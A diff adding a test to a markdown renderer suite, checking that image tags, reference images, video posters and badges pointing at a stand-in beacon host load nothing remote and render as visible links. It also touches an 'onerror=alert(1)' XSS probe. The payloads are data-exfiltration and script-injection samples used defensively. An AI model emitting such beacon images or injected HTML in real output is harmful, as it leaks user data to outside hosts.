@@ -44,6 +44,26 @@ describe('markdown renderer', () => {
     assertInert(parsed);
   });
 
+  it.each([
+    '![leak](https://beacon.invalid/p.png?d=secret)',
+    '![leak][r]\n\n[r]: https://beacon.invalid/p.png?d=secret',
+    '<img src="https://beacon.invalid/p.png?d=secret">',
+    '<video poster="https://beacon.invalid/p.png"></video>',
+    '[![badge](https://beacon.invalid/b.svg)](https://huggingface.co)'
+  ])('loads nothing remote for %s: images become visible links', attack => {
+    const host = document.createElement('div');
+    renderMarkdown(host, attack);
+    expect(
+      host.querySelector('img, video, audio, source, picture, image, link, meta, [src], [poster]')
+    ).toBeNull();
+    expect(renderMarkdownToHtml(attack)).not.toMatch(/<(img|video)/);
+    if (attack.startsWith('![') || attack.startsWith('[![')) {
+      const link = host.querySelector('a.mlintern-image-link');
+      expect(link?.textContent).toMatch(/^\[image: (leak|badge)\]$/);
+      expect(link?.getAttribute('href')).toContain('beacon.invalid');
+    }
+  });
+
   it('shows raw HTML as text instead of dropping it silently', () => {
     const host = document.createElement('div');
     renderMarkdown(host, 'before <img src=x onerror=alert(1)> after');
